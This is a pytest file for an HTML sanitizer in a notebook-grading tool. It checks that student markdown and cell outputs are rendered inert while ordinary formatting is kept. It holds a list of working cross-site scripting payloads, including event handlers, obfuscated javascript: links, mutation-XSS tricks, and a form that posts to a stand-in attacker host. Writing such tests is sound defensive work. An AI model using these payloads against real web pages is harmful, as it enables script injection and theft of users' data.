"""The HTML cleaner of formgrader's page and the feedback: hostile markup made inert, a student's formatting kept.

Each payload is rendered as nbconvert renders a markdown cell, then cleaned; what is left is parsed
(html.parser) and searched for anything a browser would run or fetch.
"""

from html.parser import HTMLParser

import nbformat
import pytest
from jinja2 import Environment
from nbconvert.exporters import HTMLExporter

from coursegrader.adapters.htmlsafety import InertOutputs, clean, markdown2html

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "img onerror": '<img src=x onerror="alert(2)">',
    "svg onload": '<svg onload="alert(3)"><circle r="5"/></svg>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(4)</script>"></iframe>',
    "details ontoggle": '<details open ontoggle="alert(5)"><summary>s</summary>x</details>',
    "markdown javascript: link": "[click](javascript:alert(6))",
    "html javascript: link": '<a href="javascript:alert(7)">click</a>',
    "entity-encoded javascript: link": '<a href="jav&#x61;script:alert(8)">e</a>',
    "tab in javascript: link": '<a href="java\tscript:alert(9)">t</a>',
    "data:text/html link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    "form": '<form action="https://evil.example/steal"><input name=q autofocus onfocus=alert(10)><button>go</button></form>',
    "remote img": '<img src="http://127.0.0.1:47301/track.png">',
    "remote markdown img": "![t](http://127.0.0.1:47301/track2.png)",
    "protocol-relative img": '<img src="//evil.example/p.png">',
    "relative img": '<img src="evil.svg">',
    "srcset": f'<img src="data:image/png;base64,{PNG}" srcset="http://evil.example/s.png 2x">',
    "style attribute": '<div style="background:url(http://evil.example/bg.png)">bg</div>',
    "style tag": "<style>body{background:url(http://evil.example/s)}</style>",
    "link tag": '<link rel=stylesheet href="http://evil.example/x.css">',
    "object and embed": '<object data="evil.html"></object><embed src="evil.svg">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "base": '<base href="http://evil.example/">',
    "video": '<video poster="http://evil.example/v.png" src="http://evil.example/v.mp4" autoplay></video>',
    "svg link": '<svg><a xlink:href="javascript:alert(11)"><text y=20>x</text></a></svg>',
    "math with a tag": "$<img src=x onerror=alert(12)>$",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(13)>"></noscript>',
    "mathml mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(14)>",
    "formgrader's own classes": '<span class="btn btn-success full-credit navbar-fixed-top">Full credit</span>',
    "an id formgrader looks up": '<h2 id="statusmessage">x</h2>',
}

# what may stay: tag -> attributes
INERT = {"a": {"href", "rel", "title", "class"}, "img": {"src", "alt", "title", "width", "height"},
         "th": {"style", "colspan", "rowspan", "align"}, "td": {"style", "colspan", "rowspan", "align"}}
FORBIDDEN_TAGS = {"script", "style", "iframe", "frame", "object", "embed", "form", "input", "button", "svg", "math",
                  "base", "meta", "link", "video", "audio", "source", "noscript", "textarea", "select"}


class Tags(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def render(markdown: str, attachments=None) -> str:
    environment = Environment()
    environment.filters["markdown2html"] = markdown2html
    template = environment.from_string("{{ cell.source | markdown2html }}")
    return template.render(cell={"source": markdown, "attachments": attachments or {}}, resources={})


def live_parts(html: str) -> list[str]:
    """Whatever in ``html`` a browser would run or fetch."""
    found = []
    for tag, attrs in Tags(html).tags:
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            value = value or ""
            if name.startswith("on") or name in ("style", "srcset", "formaction", "action", "poster", "background") \
                    and not (name == "style" and tag in ("th", "td") and value.startswith("text-align")):
                found.append(f"{tag}[{name}]")
            if name == "src" and not value.startswith("data:image/"):
                found.append(f"{tag}[src={value}]")
            if name == "href" and not value.startswith(("#", "http://", "https://", "mailto:")):
                found.append(f"{tag}[href={value}]")
            if name == "class" and tag != "a" and set(value.split()) & {"btn", "full-credit", "navbar-fixed-top"}:
                found.append(f"{tag}[class={value}]")
            if name == "id" and not value.startswith("user-content-"):
                found.append(f"{tag}[id={value}]")
    return found


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_is_inert(payload):
    html = render(f"Before\n\n{payload}\n\nAfter")
    assert live_parts(html) == [], html
    assert "alert(" not in html or "$&lt;img" in html  # only the math payload keeps its text, as text
    assert "Before" in html


def test_the_check_itself_sees_live_markup():
    assert sorted(live_parts('<img src=x onerror="alert(1)"><a href="javascript:x">y</a><script></script>')) == \
        ["<script>", "a[href=javascript:x]", "img[onerror]", "img[src=x]"]


def test_a_students_formatting_still_shows():
    source = ("# Why attention ignores order\n\n**bold**, *em*, `code`, ~~no~~, a [link](https://example.org) "
              "and [back to the top](#why-attention-ignores-order).\n\n"
              "| token | row |\n|:------|----:|\n| he | 0 |\n\n"
              f"![a plot](data:image/png;base64,{PNG})\n\n"
              "Inline $x_i < y_i$ and a display $$\\sum_j a_{ij} v_j$$\n\n"
              "> quoted\n\n- one\n- two\n\n```python\nY = mha.forward(X)\n```\n\n"
              "<details><summary>more</summary>hidden detail</details>")
    html = render(source, attachments=None)
    tags = [tag for tag, _ in Tags(html).tags]
    for tag in ("h1", "strong", "em", "code", "a", "table", "thead", "th", "td", "img", "blockquote", "ul", "pre",
                "details", "summary"):
        assert tag in tags, (tag, html)
    assert f'src="data:image/png;base64,{PNG}"' in html
    assert 'href="https://example.org" rel="noopener noreferrer nofollow"' in html
    assert 'href="#user-content-Why-attention-ignores-order"' in html and 'id="user-content-Why-attention' in html
    assert '<th style="text-align:left">token</th>' in html
    assert "$x_i &lt; y_i$" in html and "$$\\sum_j a_{ij} v_j$$" in html  # text for MathJax
    assert '<span class="n">Y</span>' in html  # code highlighting keeps its classes
    assert live_parts(html) == []


def test_an_attachment_becomes_an_embedded_image():
    html = render("![pasted](attachment:pasted.png)", attachments={"pasted.png": {"image/png": PNG}})
    assert f'<img src="data:image/png;base64,{PNG}" alt="pasted">' in html


def test_one_fragment_cannot_swallow_what_follows():
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_markdown_cell("<math><mtext><table><mglyph><style><!--"),
                      nbformat.v4.new_markdown_cell("<div><table><tr><td>unclosed"),
                      nbformat.v4.new_markdown_cell("The answer that follows"),
                      nbformat.v4.new_code_cell("print('and the code')")]
    exporter = HTMLExporter(template_name="classic", sanitize_html=True,
                            filters={"markdown2html": markdown2html, "clean_html": clean})
    html, _ = exporter.from_notebook_node(notebook)
    assert "The answer that follows" in html and "and the code" in html


def test_clean_keeps_text_and_drops_script_content():
    assert clean("<p>a <script>steal()</script><b>b</b></p>") == "<p>a <b>b</b></p>"
    assert clean(b"<i>bytes</i>") == "<i>bytes</i>"


def test_outputs_keep_inert_types_and_numeric_sizes_only():
    cell = nbformat.v4.new_code_cell("")
    cell.outputs = [
        nbformat.v4.new_output("display_data", data={"image/png": PNG, "text/html": "<script>x</script>",
                                                      "image/svg+xml": "<svg onload=x>", "text/plain": "fig"},
                               metadata={"image/png": {"width": "1 onerror=alert(1)", "height": 40},
                                         "filenames": {"image/png": "http://127.0.0.1:47301/x.png"}}),
        nbformat.v4.new_output("execute_result", data={"text/markdown": "[x](javascript:y)", "text/plain": "x"},
                               execution_count=1),
        nbformat.v4.new_output("stream", name="stdout", text="<b>printed</b>"),
    ]
    cell, _ = InertOutputs().preprocess_cell(cell, {}, 0)
    image, result, stream = cell.outputs
    assert image.data == {"image/png": PNG, "text/plain": "fig"} and image.metadata == {"image/png": {"height": 40}}
    assert result.data == {"text/plain": "x"} and result.metadata == {}
    assert stream.text == "<b>printed</b>"  # nbconvert escapes streams itself
